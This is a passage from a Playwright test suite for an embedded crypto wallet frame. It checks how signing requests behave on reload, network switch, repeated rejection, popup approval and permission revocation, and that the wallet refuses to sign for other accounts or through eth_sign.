  it('X26: are gone when the page is loaded again during an approval, and are not signed later', async () => {
    const { page, address } = await signedIn()
    const { database, frame } = world()
    const unlocks = async () =>
      (await database.pool.query(`SELECT FROM wallet_audit WHERE kind = 'unlocked'`)).rowCount ?? 0
    const before = await unlocks()
    await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await expect.poll(() => page.frameLocator('iframe').getByRole('button', { name: 'Approve' }).isEnabled()).toBe(true)
    await page.reload()
    await page.evaluate(`site.connect(${text(frame)})`)
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: true } })
    expect(await page.frameLocator('iframe').getByRole('dialog').count()).toBe(0)
    expect(await unlocks()).toBe(before)
  })

  it('X46: are withdrawn when the page switches the network, also those that wait', async () => {
    const { page, address } = await signedIn()
    const call = { method: 'personal_sign', params: ['hello', address] }
    const replies = [await begin(page, call), await begin(page, call)]
    const button = page.frameLocator('iframe').getByRole('button', { name: 'Approve' })
    await button.waitFor()
    const { payload } = await query(page, 'GET_CHAIN_ID')
    await query(page, 'SWITCH_NETWORK', payload)
    expect(await button.count(), 'the network in use stays').toBe(1)
    await query(page, 'SWITCH_NETWORK', { chainId: SOLANA })
    for (const reply of replies) expect(await reply()).toMatchObject({ payload: { code: 'frame/aborted' } })
    expect(await button.count()).toBe(0)
  })

  it('are refused with request/rate-limited for a minute after three rejections in a row', async () => {
    const { page, address } = await signedIn()
    const call = { method: 'personal_sign', params: ['hello', address] }
    for (let at = 0; at < 3; at += 1) {
      const rejected = await begin(page, call)
      await press(page, 'Reject')
      expect(await rejected()).toMatchObject({ payload: { code: 'wallet/rejected' } })
    }
    expect(await query(page, 'RPC_REQUEST', call)).toMatchObject({ payload: { code: 'request/rate-limited' } })
    await query(page, 'RELOAD')
    await page.reload()
    await page.evaluate(`site.connect(${text(world().frame)})`)
    expect(await query(page, 'RPC_REQUEST', call)).toMatchObject({ payload: { code: 'request/rate-limited' } })
  })

  /** A signed-in visitor whose browser, like Safari and Firefox, has no visibility reports. */
  async function signedInBlind() {
    const { newContext, openShop } = world()
    const context = await newContext()
    await context.addInitScript('delete IntersectionObserverEntry.prototype.isVisible')
    const page = await openShop(context)
    await login(page, newEmail())
    return { page, frame: page.frameLocator('iframe'), address: (await getUser(page)).address }
  }

  it('X25: are approved in a window of the wallet if the browser has no visibility reports', async () => {
    const { page, frame, address } = await signedInBlind()
    const call = { method: 'personal_sign', params: ['hello', address] }
    const answer = await begin(page, call)
    await expect.poll(() => frame.getByRole('button', { name: 'Open window' }).count()).toBe(1)
    expect(await frame.getByRole('button', { name: 'Approve' }).count(), 'nothing can be approved in the site').toBe(0)
    const opening = page.waitForEvent('popup')
    await frame.getByRole('button', { name: 'Open window' }).click()
    const popup = await opening
    await expect.poll(() => popup.locator('.card').textContent()).toContain(new URL(world().shop).host)
    expect(await popup.locator('.card').textContent()).toContain('hello')
    expect(new URL(popup.url()).origin).toBe(new URL(world().frame).origin)
    await popup.getByRole('button', { name: 'Approve' }).click()
    const reply = await answer()
    expect(reply.type, text(reply.payload)).toBe('RPC_REQUEST_SUCCESS')
    expect(await verifyMessage({ address, message: 'hello', signature: reply.payload as `0x${string}` })).toBe(true)
    await expect.poll(() => popup.isClosed()).toBe(true)
    expect(await frame.locator('.card').count()).toBe(0)

    const next = await begin(page, { ...call, params: ['hello again', address] })
    const again = page.waitForEvent('popup')
    await frame.getByRole('button', { name: 'Open window' }).click()
    await (await again).getByRole('button', { name: 'Approve' }).click({ timeout: 10_000 })
    expect((await next()).type).toBe('RPC_REQUEST_SUCCESS')
  })

  it('X25: are rejected when the person closes the window; the window closes when the page withdraws them or is reloaded', async () => {
    const { page, frame, address } = await signedInBlind()
    const call = { method: 'personal_sign', params: ['hello', address] }
    const open = async () => {
      const opening = page.waitForEvent('popup')
      await frame.getByRole('button', { name: 'Open window' }).click()
      const popup = await opening
      await popup.getByRole('button', { name: 'Reject' }).waitFor()
      return popup
    }
    const closed = await begin(page, call)
    await (await open()).close()
    expect(await closed()).toMatchObject({ payload: { code: 'wallet/rejected' } })

    const withdrawn = await begin(page, call)
    const second = await open()
    await query(page, 'SWITCH_NETWORK', { chainId: SOLANA })
    expect(await withdrawn()).toMatchObject({ payload: { code: 'frame/aborted' } })
    await expect.poll(() => second.isClosed()).toBe(true)

    await begin(page, { ...call, chainId: 'eip155:1' })
    const third = await open()
    await page.reload()
    await expect.poll(() => third.isClosed()).toBe(true)
  })

  it('X25: can be withdrawn and rejected while the window loads, and the window closes', async () => {
    const { page, frame, address } = await signedInBlind()
    const call = { method: 'personal_sign', params: ['hello', address] }
    let release = () => {}
    const held = new Promise<void>((resolve) => {
      release = resolve
    })
    await page.context().route('**/window/', async (route) => {
      await held
      await route.continue()
    })
    const open = async () => {
      await frame.getByRole('button', { name: 'Open window' }).click()
      await expect.poll(() => frame.locator('.card-hint').textContent()).toContain('opens')
    }
    const withdrawn = await begin(page, call)
    await open()
    await query(page, 'SWITCH_NETWORK', { chainId: SOLANA })
    expect(await withdrawn()).toMatchObject({ payload: { code: 'frame/aborted' } })
    const rejected = await begin(page, { ...call, chainId: 'eip155:1' })
    await open()
    await press(page, 'Reject')
    expect(await rejected()).toMatchObject({ payload: { code: 'wallet/rejected' } })
    release()
    await expect.poll(() => page.context().pages().length).toBe(1)
  })

  it('X25: show what to do when the browser blocks the window, and can be rejected without it', async () => {
    const { page, frame, address } = await signedInBlind()
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await frame.locator('body').evaluate(() => {
      window.open = () => null
    })
    await frame.getByRole('button', { name: 'Open window' }).click()
    await expect.poll(() => frame.locator('.card-hint').textContent()).toContain('Allow pop-up windows')
    await press(page, 'Reject')
    expect(await answer()).toMatchObject({ payload: { code: 'wallet/rejected' } })
  })

  it('X25: are approved in the frame if they are a sign-in to the embedding page', async () => {
    const { page, address } = await signedInBlind()
    const { shop } = world()
    const issued = new Date().toISOString()
    const message = `${new URL(shop).host} wants you to sign in with your Ethereum account:\n${address}\n\n\nURI: ${shop}\nVersion: 1\nChain ID: 1\nNonce: 12345678\nIssued At: ${issued}`
    const answer = await begin(page, { method: 'personal_sign', params: [message, address], chainId: 'eip155:1' })
    await page.frameLocator('iframe').locator('.card-body').focus()
    await page.keyboard.press('End')
    await press(page, 'Approve')
    expect((await answer()).type).toBe('RPC_REQUEST_SUCCESS')
  })

  it('get the permissions of EIP-2255: a session is the permission of its page, and revoking it signs out', async () => {
    const { newContext, openShop, shop } = world()
    const rpc = (page: Page, method: string, params: unknown = []) => query(page, 'RPC_REQUEST', { method, params })
    const accountsOnly = [{ eth_accounts: {} }]
    const before = await openShop(await newContext())
    expect(await rpc(before, 'wallet_getPermissions')).toMatchObject({ payload: [] })
    for (const method of ['eth_requestAccounts', 'wallet_requestPermissions'])
      expect(await rpc(before, method, accountsOnly)).toMatchObject({ payload: { code: 'wallet/unauthorized' } })
    const { page, address } = await signedIn()
    const caveats = [{ type: 'restrictReturnedAccounts', value: [address] }]
    const payload = [{ parentCapability: 'eth_accounts', invoker: shop, caveats }]
    expect(await rpc(page, 'eth_requestAccounts')).toMatchObject({ payload: [address] })
    expect(await rpc(page, 'wallet_getPermissions')).toMatchObject({ payload })
    expect(await rpc(page, 'wallet_requestPermissions', accountsOnly)).toMatchObject({ payload })
    for (const params of [[], [{ eth_accounts: {}, wallet_snap: {} }], [{ eth_accounts: { any: 1 } }]])
      for (const method of ['wallet_requestPermissions', 'wallet_revokePermissions'])
        expect(await rpc(page, method, params)).toMatchObject({ payload: { code: 'frame/invalid-message' } })
    expect(await rpc(page, 'wallet_revokePermissions', accountsOnly)).toMatchObject({ payload: null })
    expect(await rpc(page, 'eth_accounts')).toMatchObject({ payload: [] })
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
  })

  it('X47: have no account before somebody signed in, and sign for no other account', async () => {
    const { newContext, openShop } = world()
    const before = await openShop(await newContext())
    expect(await query(before, 'RPC_REQUEST', { method: 'eth_accounts', params: [] })).toMatchObject({ payload: [] })
    const { page } = await signedIn()
    const other = '0x0000000000000000000000000000000000000001'
    const refused = { method: 'personal_sign', params: ['hello', other] }
    expect(await query(page, 'RPC_REQUEST', refused)).toMatchObject({ payload: { code: 'wallet/wrong-account' } })
    expect(await query(page, 'RPC_REQUEST', { method: 'eth_sign', params: [other, '0x00'] })).toMatchObject({
      payload: { code: 'frame/not-allowed', message: 'Requested RPC call is not allowed' },
    })
  })
})
